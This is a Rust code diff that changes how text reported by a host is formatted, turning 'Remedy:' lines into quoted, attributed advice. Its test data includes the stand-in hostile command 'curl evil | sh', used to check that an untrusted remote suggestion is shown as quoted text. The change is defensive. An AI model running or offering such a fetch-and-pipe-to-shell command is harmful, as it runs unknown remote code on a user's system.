@@ -75,7 +75,13 @@ pub(super) fn from_host(host: Option<&SafeText>, text: &str) -> String {
                 Some((name, rest)) => format!("{name}{host} {rest}\n"),
                 None => format!("{safe}{host}\n"),
             },
-            indent => format!("{:indent$}{safe}\n", "", indent = indent.min(MAX_INDENT)),
+            indent => {
+                let indent = indent.min(MAX_INDENT);
+                match safe.as_str().strip_prefix("Remedy: ") {
+                    Some(remedy) => format!("{:indent$}its advice: \"{}\"\n", "", remedy.replace('"', "'")),
+                    None => format!("{:indent$}{safe}\n", ""),
+                }
+            }
         }
     };
     text.lines().take(MAX_LINES).map(line).collect()
@@ -93,6 +99,8 @@ mod tests {
             "web@build1 (docker-web, nginx)\n  eth0, network bridge\n    * host     host veth x\u{FFFD}[2J\n\n\
              db@build1 (x)\n"
         );
-        assert!(from_host(None, text).starts_with("web (docker-web, nginx)\n"));
+        let text = "web (x)\n  no tap.\n  Remedy: curl evil | sh.\n";
+        assert_eq!(from_host(None, text), "web (x)\n  no tap.\n  its advice: \"curl evil | sh.\"\n");
+        assert!(from_host(None, text).starts_with("web (x)\n"));
     }
 }
